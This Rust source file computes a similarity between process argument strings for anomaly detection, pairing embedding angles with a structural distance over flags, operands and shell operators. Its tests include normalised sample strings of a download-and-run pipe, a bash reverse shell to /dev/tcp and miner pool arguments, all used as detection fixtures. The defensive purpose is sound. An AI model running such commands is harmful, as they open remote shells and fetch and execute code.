//! Argument similarity: the embedding's angle plus a structural distance.
//!
//! A sentence model alone cannot separate same-behaviour from
//! different-behaviour argument strings with a margin (docs/embeddings.md,
//! Calibration): it scores `-namespace k8s.io -id <hex> -address …` and a
//! miner's `-B -o <ipv4>:<num> -u x -p x` 0.24 apart at best, and a pool
//! change of a miner lower than some attacks. The lexical *shape* of the
//! arguments (which flags, which operands, which shell operators) says what
//! the model misses, and what it says can be shown to a person.
//!
//! The measure is a distance, so that the profile's exemplar balls stay sound
//! when they merge (the triangle inequality holds):
//!
//! ```text
//! d(a, b) = min(π, angle(embedding a, embedding b) + STRUCTURE_WEIGHT · J(shape a, shape b))
//! similarity = cos d        (= the cosine when the shapes are equal)
//! ```
//!
//! `angle` is the great-circle distance on the unit sphere and `J` the weighted
//! Jaccard distance of the two shapes (a metric on weighted sets); a sum of
//! metrics is a metric on the pairs, and so is its minimum with a constant.

use std::cmp::Ordering;
use std::f64::consts::PI;
use std::fmt;

/// Radians added to the embedding angle per unit of structural distance
/// (`J` ∈ [0, 1]). Chosen on the calibration set only (docs/embeddings.md).
pub const STRUCTURE_WEIGHT: f64 = 1.25;

/// Weight of a flag name (`-o`, `--port`, `-Dserver.port`).
const FLAG_WEIGHT: f32 = 1.0;
/// Weight of an operand word: a positional argument or a piece of one
/// (path segments, URL scheme, host and path, subcommands, values after a space).
const OPERAND_WEIGHT: f32 = 1.0;
/// Weight of a word in a flag's `=value` (values change with configuration).
const VALUE_WEIGHT: f32 = 0.5;
/// Weight of a normaliser placeholder (`<num>`, `<ipv4>`, …): says little.
const PLACEHOLDER_WEIGHT: f32 = 0.25;
/// Weight of a shell operator (`|`, `&&`, `;`, `>&`, `$(` …).
const OPERATOR_WEIGHT: f32 = 1.0;
/// At most this many features are kept per string (bounded work on huge input).
const MAX_FEATURES: usize = 256;

/// What a feature of an argument string is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum FeatureKind {
    /// A flag name: `-o`, `--port` (without its `=value`).
    Flag,
    /// A word of a positional argument: `worker`, `stratum+tcp`, `app.jar`.
    Operand,
    /// A word of a flag's `=value`: `prod` in `--profile=prod`.
    Value,
    /// A shell operator: `|`, `||`, `&&`, `;`, `&`, `>&`, `<&`, `>>`, `>`, `<`, `$(`, a backtick.
    Operator,
}

impl FeatureKind {
    fn plural(self) -> &'static str {
        match self {
            FeatureKind::Flag => "flags",
            FeatureKind::Operand => "operands",
            FeatureKind::Value => "values",
            FeatureKind::Operator => "operators",
        }
    }
}

/// One feature: kind, text (operands and values lower-cased) and weight.
#[derive(Clone, Debug, PartialEq)]
pub struct Feature {
    /// What it is.
    pub kind: FeatureKind,
    /// Its text.
    pub text: Box<str>,
    /// Its weight in the Jaccard distance.
    pub weight: f32,
}

/// The lexical shape of a normalised argument string (what follows
/// `argv[0]`, as the profile stores it): its flags, operand words, `=`-values
/// and shell operators, each with a weight.
///
/// ```
/// use kestrel_embed::{ArgShape, FeatureKind};
/// let s = ArgShape::of("-o stratum+tcp://pool.xx:<num> -u <b64> -p x");
/// let flags: Vec<&str> = s.features().iter()
///     .filter(|f| f.kind == FeatureKind::Flag).map(|f| &*f.text).collect();
/// assert_eq!(flags, ["-o", "-p", "-u"]);
/// assert!(s.features().iter().any(|f| &*f.text == "stratum+tcp"));
/// ```
#[derive(Clone, Debug, Default, PartialEq)]
pub struct ArgShape {
    /// Sorted by (kind, text), one entry per (kind, text), the largest weight kept.
    features: Vec<Feature>,
}

impl ArgShape {
    /// The shape of a normalised argument string. Linear in its length;
    /// never fails (any text has a shape, possibly empty).
    pub fn of(args: &str) -> Self {
        let mut features = Vec::new();
        for token in args.split_whitespace() {
            if features.len() >= MAX_FEATURES {
                break;
            }
            let token = token.trim_matches(|c| c == '\'' || c == '"');
            if is_flag(token) {
                let (name, value) = match token.split_once('=') {
                    Some((n, v)) => (n, Some(v)),
                    None => (token, None),
                };
                push(&mut features, FeatureKind::Flag, name.into(), FLAG_WEIGHT);
                if let Some(v) = value {
                    words(v, FeatureKind::Value, VALUE_WEIGHT, &mut features);
                }
            } else {
                words(token, FeatureKind::Operand, OPERAND_WEIGHT, &mut features);
            }
        }
        features.truncate(MAX_FEATURES);
        features.sort_by(|a, b| (a.kind, &a.text).cmp(&(b.kind, &b.text)));
        // Equal (kind, text): keep the largest weight (sorted order is stable,
        // so compare weights explicitly).
        let mut out: Vec<Feature> = Vec::with_capacity(features.len());
        for f in features {
            match out.last_mut() {
                Some(last) if last.kind == f.kind && last.text == f.text => {
                    last.weight = last.weight.max(f.weight);
                }
                _ => out.push(f),
            }
        }
        ArgShape { features: out }
    }

    /// The features, sorted by kind and text.
    pub fn features(&self) -> &[Feature] {
        &self.features
    }

    /// Weighted Jaccard distance `1 − Σ min(w) / Σ max(w)` over the union of
    /// features, in [0, 1]; 0 for two empty shapes. A metric.
    pub fn distance(&self, other: &ArgShape) -> f64 {
        let (mut min, mut max) = (0f64, 0f64);
        merge(&self.features, &other.features, |a, b| match (a, b) {
            (Some(x), Some(y)) => {
                min += f64::from(x.weight.min(y.weight));
                max += f64::from(x.weight.max(y.weight));
            }
            (Some(x), None) | (None, Some(x)) => max += f64::from(x.weight),
            (None, None) => {}
        });
        if max <= 0.0 {
            0.0
        } else {
            (1.0 - min / max).clamp(0.0, 1.0)
        }
    }

    /// What `observed` has that `self` lacks, and what it lacks of `self`.
    pub fn diff(&self, observed: &ArgShape) -> ShapeDiff {
        let mut d = ShapeDiff::default();
        merge(&self.features, &observed.features, |a, b| match (a, b) {
            (None, Some(x)) => d.added.push((x.kind, x.text.to_string())),
            (Some(x), None) => d.missing.push((x.kind, x.text.to_string())),
            _ => {}
        });
        d
    }
}

/// Walks two sorted feature lists together.
fn merge(a: &[Feature], b: &[Feature], mut f: impl FnMut(Option<&Feature>, Option<&Feature>)) {
    let (mut i, mut j) = (0, 0);
    while i < a.len() || j < b.len() {
        let ord = match (a.get(i), b.get(j)) {
            (Some(x), Some(y)) => (x.kind, &x.text).cmp(&(y.kind, &y.text)),
            (Some(_), None) => Ordering::Less,
            _ => Ordering::Greater,
        };
        match ord {
            Ordering::Less => {
                f(a.get(i), None);
                i += 1;
            }
            Ordering::Greater => {
                f(None, b.get(j));
                j += 1;
            }
            Ordering::Equal => {
                f(a.get(i), b.get(j));
                i += 1;
                j += 1;
            }
        }
    }
}

/// `-x…` or `--x…` with `x` an ASCII letter.
fn is_flag(t: &str) -> bool {
    let b = t.as_bytes();
    match b {
        [b'-', b'-', c, ..] | [b'-', c, ..] => c.is_ascii_alphabetic(),
        _ => false,
    }
}

fn push(out: &mut Vec<Feature>, kind: FeatureKind, text: Box<str>, weight: f32) {
    if out.len() < MAX_FEATURES {
        out.push(Feature { kind, text, weight });
    }
}

const OPERATORS: [&str; 12] = [
    "||", "&&", "|", ";", "&", ">&", "<&", ">>", ">", "<", "$(", "`",
];

/// Splits `text` into words (runs of letters, digits and `_+.-`, trimmed of
/// `.`/`-`), normaliser placeholders (`<num>` …) and shell operators; every
/// other byte separates.
fn words(text: &str, kind: FeatureKind, weight: f32, out: &mut Vec<Feature>) {
    let b = text.as_bytes();
    let word = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'+' | b'.' | b'-');
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'<' {
            let end = b[i + 1..]
                .iter()
                .position(|c| !(c.is_ascii_lowercase() || c.is_ascii_digit()));
            if let Some(n) = end.filter(|&n| n > 0 && b.get(i + 1 + n) == Some(&b'>')) {
                let ph = &text[i..i + n + 2];
                push(out, kind, ph.into(), weight.min(PLACEHOLDER_WEIGHT));
                i += n + 2;
                continue;
            }
        }
        if word(b[i]) || !b[i].is_ascii() {
            let start = i;
            while i < b.len() && (word(b[i]) || !b[i].is_ascii()) {
                i += 1;
            }
            let w = text[start..i].trim_matches(|c| c == '.' || c == '-');
            if !w.is_empty() {
                push(out, kind, w.to_lowercase().into(), weight);
            }
            continue;
        }
        if let Some(op) = OPERATORS.iter().find(|op| text[i..].starts_with(**op)) {
            push(out, FeatureKind::Operator, (*op).into(), OPERATOR_WEIGHT);
            i += op.len();
            continue;
        }
        i += 1;
    }
}

/// Features one string has and the other lacks.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ShapeDiff {
    /// In the observed string only.
    pub added: Vec<(FeatureKind, String)>,
    /// In the known string only.
    pub missing: Vec<(FeatureKind, String)>,
}

impl fmt::Display for ShapeDiff {
    /// `new flags -o -u -p; new operands stratum+tcp; missing flags -jar`
    /// (at most 8 items per group).
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut first = true;
        for (label, list) in [("new", &self.added), ("missing", &self.missing)] {
            for kind in [
                FeatureKind::Flag,
                FeatureKind::Operator,
                FeatureKind::Operand,
                FeatureKind::Value,
            ] {
                let items: Vec<&str> = list
                    .iter()
                    .filter(|(k, _)| *k == kind)
                    .map(|(_, t)| t.as_str())
                    .collect();
                if items.is_empty() {
                    continue;
                }
                if !first {
                    f.write_str("; ")?;
                }
                first = false;
                write!(
                    f,
                    "{label} {} {}",
                    kind.plural(),
                    items[..items.len().min(8)].join(" ")
                )?;
                if items.len() > 8 {
                    write!(f, " (+{})", items.len() - 8)?;
                }
            }
        }
        if first {
            f.write_str("same flags and operands")?;
        }
        Ok(())
    }
}

/// Angle (radians) between two unit vectors given their cosine.
pub fn angle_of_cosine(cosine: f32) -> f64 {
    f64::from(cosine).clamp(-1.0, 1.0).acos()
}

/// The combined distance `min(π, angle + STRUCTURE_WEIGHT · structure)`.
pub fn arg_distance(angle: f64, structure: f64) -> f64 {
    (angle + STRUCTURE_WEIGHT * structure).clamp(0.0, PI)
}

/// Argument similarity of two normalised argument strings, given the cosine
/// of their embeddings and their shapes: `cos(arg_distance(…))`. Equals the
/// cosine when the shapes are equal; compare it with
/// [`default_threshold`](crate::default_threshold).
pub fn arg_similarity(cosine: f32, a: &ArgShape, b: &ArgShape) -> f32 {
    arg_distance(angle_of_cosine(cosine), a.distance(b)).cos() as f32
}

/// Why an argument string is (un)like a known one: the similarity, its two
/// parts, and the features that differ.
#[derive(Clone, Debug, PartialEq)]
pub struct ArgComparison {
    /// [`arg_similarity`].
    pub similarity: f32,
    /// Cosine of the embeddings.
    pub cosine: f32,
    /// Structural (weighted Jaccard) distance of the shapes, in [0, 1].
    pub structure: f32,
    /// Features that differ (observed vs known).
    pub diff: ShapeDiff,
}

impl ArgComparison {
    /// Compares an `observed` argument string with a `known` one whose
    /// embeddings have cosine `cosine`.
    pub fn new(known: &str, observed: &str, cosine: f32) -> Self {
        let (k, o) = (ArgShape::of(known), ArgShape::of(observed));
        let structure = k.distance(&o);
        ArgComparison {
            similarity: arg_distance(angle_of_cosine(cosine), structure).cos() as f32,
            cosine,
            structure: structure as f32,
            diff: k.diff(&o),
        }
    }
}

impl fmt::Display for ArgComparison {
    /// `similarity -0.93 (cosine 0.17, structure 0.95): new flags -o -u -p; …`
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "similarity {:.2} (cosine {:.2}, structure {:.2}): {}",
            self.similarity, self.cosine, self.structure, self.diff
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(s: &ArgShape, kind: FeatureKind) -> Vec<&str> {
        s.features()
            .iter()
            .filter(|f| f.kind == kind)
            .map(|f| &*f.text)
            .collect()
    }

    #[test]
    fn flags_operands_values_and_operators_are_told_apart() {
        let s = ArgShape::of(
            "-jar /app/app.jar --spring.profiles.active=prod 'curl http://<ipv4>/s.sh | sh'",
        );
        assert_eq!(
            texts(&s, FeatureKind::Flag),
            ["--spring.profiles.active", "-jar"]
        );
        assert_eq!(texts(&s, FeatureKind::Value), ["prod"]);
        assert_eq!(texts(&s, FeatureKind::Operator), ["|"]);
        assert_eq!(
            texts(&s, FeatureKind::Operand),
            ["<ipv4>", "app", "app.jar", "curl", "http", "s.sh", "sh"]
        );
        let ph = s.features().iter().find(|f| &*f.text == "<ipv4>").unwrap();
        assert_eq!(ph.weight, PLACEHOLDER_WEIGHT);
    }

    #[test]
    fn the_distance_is_zero_for_equal_shapes_and_one_for_disjoint_ones() {
        let a = ArgShape::of("-jar app.jar --timestamp=<num>");
        assert_eq!(
            a.distance(&ArgShape::of("-jar app.jar --timestamp=<num>")),
            0.0
        );
        assert_eq!(ArgShape::of("").distance(&ArgShape::of("")), 0.0);
        let b = ArgShape::of("-o stratum+tcp://pool.xx:4444");
        assert_eq!(a.distance(&b), 1.0);
        // -jar app.jar shared (2), --timestamp=<num> (1 + 0.25) only in a, --port only in c.
        let c = ArgShape::of("-jar app.jar --port");
        assert!((a.distance(&c) - (1.0 - 2.0 / 4.25)).abs() < 1e-9);
    }

    #[test]
    fn the_distance_obeys_the_triangle_inequality_on_samples() {
        let samples = [
            "",
            "-jar app.jar --timestamp=<num>",
            "-jar app.jar --port <num>",
            "-o stratum+tcp://pool.xx:<num> -u <b64> -p x",
            "-c 'bash -i >& /dev/tcp/<ipv4>/<num> <num>>&<num>'",
            "-m celery -A proj worker --loglevel=info",
            "-m celery -A proj beat --loglevel=info",
        ];
        let shapes: Vec<ArgShape> = samples.iter().map(|s| ArgShape::of(s)).collect();
        for a in &shapes {
            for b in &shapes {
                assert!((a.distance(b) - b.distance(a)).abs() < 1e-12);
                for c in &shapes {
                    assert!(a.distance(c) <= a.distance(b) + b.distance(c) + 1e-12);
                }
            }
        }
    }

    #[test]
    fn equal_shapes_keep_the_cosine_and_different_ones_lower_it() {
        let a = ArgShape::of("-jar app.jar");
        assert!((arg_similarity(0.8, &a, &a) - 0.8).abs() < 1e-6);
        let b = ArgShape::of("-o pool:<num> -u <b64>");
        assert!(arg_similarity(0.8, &a, &b) < 0.8 - 0.5);
        assert_eq!(arg_distance(3.0, 1.0), PI);
    }

    #[test]
    fn a_comparison_says_which_flags_are_new() {
        let c = ArgComparison::new(
            "-jar app.jar --timestamp=<num>",
            "-o stratum+tcp://pool.xx:<num> -u <b64> -p x",
            0.17,
        );
        let text = c.to_string();
        assert!(text.starts_with("similarity "), "{text}");
        assert!(text.contains("new flags -o -p -u"), "{text}");
        assert!(text.contains("missing flags --timestamp -jar"), "{text}");
        assert!(text.contains("stratum+tcp"), "{text}");
        assert_eq!(c.structure, 1.0);
    }

    #[test]
    fn huge_and_odd_input_is_bounded_and_never_panics() {
        let big = "-a x ".repeat(100_000);
        assert!(ArgShape::of(&big).features().len() <= MAX_FEATURES);
        for s in ["<", "<<>>", "-", "--", "-=", "é-ü <num", "$(`|`)", "<abc"] {
            let _ = ArgShape::of(s).distance(&ArgShape::of("x"));
        }
    }
}
